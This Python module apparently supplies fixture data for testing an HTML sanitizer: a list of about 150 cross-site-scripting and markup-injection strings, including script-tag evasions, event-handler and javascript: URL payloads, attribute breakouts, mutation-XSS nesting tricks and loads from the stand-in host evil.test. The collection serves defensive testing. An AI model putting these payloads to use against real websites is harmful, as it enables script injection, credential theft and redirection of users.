"""Hostile texts, one a line, `§` where a word of its own is put in, `␤` and `␍` for ends of lines: tags and attributes."""

from __future__ import annotations

from typing import Final

MARKUP: Final = """
<script>hit()</script>§
<SCRIPT>hit()</SCRIPT>§
<script >hit()</script >§
<script/x>hit()</script>§
<script\t>hit()</script>§
<script>hit()//§
<script type=module>hit()</script>§
<script src=//evil.test/x.js></script>§
<script src=data:,hit()></script>§
<scr<script>ipt>hit()</scr</script>ipt>§
<<script>hit();//<</script>§
</script><script>hit()</script>§
--><script>hit()</script>§<!--
]]><script>hit()</script>§
<![CDATA[<script>hit()</script>]]>§
<!--[if IE]><script>hit()</script><![endif]-->§
<!--><img src=x onerror=hit()>§-->
<!--§
<!---!><b id=§>§</b>
<?xml version="1.0"?><b id=§>§</b>
<noscript><p title="</noscript><img src=x onerror=hit()>">§
<template><img src=x onerror=hit()></template>§
<math><mtext><table><mglyph><style><img src=x onerror=hit()>§
<svg><style><img src=x onerror=hit()>§</style>
<svg><script>hit()</script>§</svg>
<svg><script href=data:,hit() />§</svg>
<svg><a xlink:href=javascript:hit()><text id=§ x=9 y=9>§</text></a>
<svg><use href="data:image/svg+xml,<svg id=x><script>hit()</script></svg>#x">§
<svg><foreignObject><img src=x onerror=hit()>§</foreignObject></svg>
<svg><desc><![CDATA[</desc><img src=x onerror=hit()>]]>§
<svg><animate href=#x attributeName=href values=javascript:hit() />§
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>§
<style>@import '//evil.test/x.css';</style>§
<style>*{background:url(javascript:hit())}</style>§
<style>#§{color:red}</style><b id=§>§</b>
<p style=background:url(javascript:hit()) id=§>§</p>
<p style="width:expression(hit())" id=§>§</p>
<p style="-moz-binding:url(//evil.test/x)" id=§>§</p>
<p style="position:fixed;inset:0" id=§>§</p>
<link rel=stylesheet href=//evil.test/x.css>§
<link rel=import href=//evil.test/x>§
<link rel=preload as=script href=//evil.test/x.js>§
<meta http-equiv=refresh content="0;url=javascript:hit()">§
<meta http-equiv=refresh content="0;url=//evil.test/">§
<meta http-equiv=Set-Cookie content="a=b">§
<meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-§
<base href=//evil.test/>§
<base href=javascript:/hit()//>§
<iframe srcdoc="<script>parent.hit()</script>">§</iframe>
<iframe srcdoc='&lt;img src=x onerror=parent.hit()&gt;'>§</iframe>
<embed src=javascript:hit()>§
<object data=//evil.test/x.swf>§
<applet code=x>§</applet>
<isindex action=javascript:hit() type=image>§
<input value=§ formaction=javascript:hit() type=submit>
<button formaction=javascript:hit() id=§>§</button>
<button form=§ formaction=//evil.test/>§</button>
<input type=hidden name=csrfmiddlewaretoken value=§ id=§>
<form id=§ action=//evil.test/><input name=x>
<a href=//evil.test/ id=§>§</a>
<a href=https://evil.test/ id=§>§</a>
<a id=§ name=§ target=_blank>§</a>
<a id=§ ping=//evil.test/ href=x>§</a>
<area href=javascript:hit() id=§>§
<img src=//evil.test/x.png id=§>§
<img srcset=//evil.test/x.png id=§>§
<img lowsrc=javascript:hit() id=§>§
<image href=//evil.test/x id=§>§
<picture><source srcset=x onerror=hit()><img src=x id=§>§
<video><source src=x onerror=hit()>§</video>
<video poster=//evil.test/x.png id=§>§
<audio src=//evil.test/x autoplay id=§>§
<table background=javascript:hit() id=§>§
<td background=//evil.test/x id=§>§
<body background=//evil.test/x id=§>§
<bgsound src=//evil.test/x id=§>§
<marquee id=§>§</marquee>
<blink id=§>§</blink>
<plaintext id=§>§
<xmp id=§>§
<listing id=§>§
<textarea id=§>§
<select id=§><option>§
<title id=§>§
<b id=§>§</b>
<h1 id=§>§</h1>
<p id=§>§
</p><p id=§>§
</div></div></div><div id=§>§
</main><main id=§>§
</table><table id=§><td>§
</li></ul><ul id=§><li>§
</dd></dl><dl id=§><dd>§
</body></html><b id=§>§
<x-§>§</x-§>
<§>§</§>
<dialog open id=§>§
<portal src=//evil.test/ id=§>§
<keygen autofocus onfocus=hit()>§
<menu type=toolbar onclick=hit()>§
<fencedframe src=//evil.test/ id=§>§
<slot name=§>§</slot>
<template shadowrootmode=open><b id=§>§</b></template>
<div hx-get=//evil.test/ hx-trigger=load id=§>§</div>
<div hx-on:load=hit() id=§>§</div>
<div data-hx-get=//evil.test/ hx-trigger=load id=§>§</div>
<div x-data x-init=hit() id=§>§</div>
<div ng-app ng-init=constructor.constructor('hit()')() id=§>§</div>
<div v-html="'<img src=x onerror=hit()>'" id=§>§</div>
<div id=§ contenteditable autofocus onfocus=hit()>§
" onmouseover="hit()" id="§
' onmouseover='hit()' id='§
" autofocus onfocus=hit() id="§
' autofocus onfocus=hit() id='§
`onmouseover=hit() id=§
" onfocus=hit() autofocus x="§" href="javascript:hit()
"><b id=§>§</b>
'><b id=§>§</b>
"/><svg/onload=hit() id=§>§
'/><svg/onload=hit() id=§>§
" style="background:url(//evil.test/x)" id="§
" srcdoc="<script>parent.hit()</script>" id="§
\\" onmouseover=hit() id=§
\\'-hit()-\\'§
';hit();//§
";hit();//§
`;hit();//§
${hit()}§
`${hit()}`§
'-hit()-'§
"-hit()-"§
\\u0027-hit()-\\u0027§
\\x3cscript\\x3ehit()\\x3c/script\\x3e§
\\u003cscript\\u003ehit()\\u003c/script\\u003e§
{"§":"</script><script>hit()</script>"}
*/hit()/*§
</script>§<!--<script>
<!--<script>§
"""
